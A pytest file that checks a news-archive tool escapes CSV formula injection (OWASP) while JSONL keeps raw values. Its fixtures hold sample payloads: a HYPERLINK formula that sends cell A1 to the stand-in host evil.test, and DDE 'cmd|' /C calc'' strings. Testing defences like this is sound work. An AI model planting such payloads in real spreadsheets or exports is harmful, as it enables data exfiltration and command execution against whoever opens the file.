"""CSV exports are neutralised against formula injection (OWASP); other formats keep values as they are."""

from __future__ import annotations

import csv
import io
import json

import pytest

from storyline.report.export import csv_cell, export_articles

HOSTILE = {
    "title": "=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")",
    "outlet": "+cmd|' /C calc'!A0",
    "author": "-2+3",
    "url": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("value, expected", [
    ("=1+2", "'=1+2"),
    ("+1", "'+1"),
    ("-1", "'-1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("A title = fine", "A title = fine"),
    ("1,200 troops", "1,200 troops"),
    ("", ""),
    (None, None),
    (12, 12),
])
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


def test_csv_export_neutralises_formula_cells(fresh_store, article_factory):
    text = "\tThe council said 40 homes were flooded on Monday, and 12 roads stayed closed overnight."
    article = article_factory(text, source="=cmd|' -C calc'!A0.txt", **HOSTILE)
    fresh_store.save_article(article)
    out = io.StringIO()
    assert export_articles(fresh_store, "csv", out) == 1
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    for name, value in HOSTILE.items():
        assert row[name] == "'" + value
    assert row["source"] == "'=cmd|' -C calc'!A0.txt"  # a file name: exports show no folders
    assert row["text"] == "'" + text
    assert row["id"] == article.id and row["title_origin"] == "json"
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_jsonl_export_keeps_values(fresh_store, article_factory):
    article = article_factory("The council said 40 homes were flooded on Monday after the storm.", **HOSTILE)
    fresh_store.save_article(article)
    out = io.StringIO()
    export_articles(fresh_store, "jsonl", out)
    record = json.loads(out.getvalue())
    assert {k: record[k] for k in HOSTILE} == HOSTILE
